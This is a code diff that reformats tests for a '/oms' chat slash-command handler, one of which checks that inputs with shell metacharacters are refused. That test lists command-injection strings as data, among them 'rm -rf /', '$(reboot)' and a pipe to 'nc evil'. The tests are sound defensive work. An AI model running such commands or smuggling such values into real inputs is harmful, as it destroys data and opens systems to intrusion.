@@ -24,7 +24,8 @@ describe('/oms answers that need no server', () => {
     const body = r.json() as { response_type: string; text: string; blocks: unknown[] };
     expect(body.response_type).toBe('ephemeral');
     expect(blocksText(body.blocks)).toContain('/oms diagnose');
-    for (const id of ['login', 'api-not-found', 'service-start']) expect(blocksText(body.blocks)).toContain(`\`${id}\``);
+    for (const id of ['login', 'api-not-found', 'service-start'])
+      expect(blocksText(body.blocks)).toContain(`\`${id}\``);
     expect(blocksText(body.blocks)).toContain('`prod`');
     expect(body).toMatchSnapshot();
     await h.idle();
@@ -57,7 +58,13 @@ describe('/oms answers that need no server', () => {
     expect(h.transports).toEqual([]);
   });
 
-  it.each(['diagnose login; rm -rf /', 'diagnose $(reboot)', 'check backend-service | nc evil 1', 'login `id`', 'diagnose login && curl x'])('refuses shell metacharacters: %s', async (text) => {
+  it.each([
+    'diagnose login; rm -rf /',
+    'diagnose $(reboot)',
+    'check backend-service | nc evil 1',
+    'login `id`',
+    'diagnose login && curl x',
+  ])('refuses shell metacharacters: %s', async (text) => {
     const body = (await h.command(text)).json() as { response_type: string; text: string };
     expect(body.response_type).toBe('ephemeral');
     expect(body.text).toMatch(/refused: the input contains shell characters/);
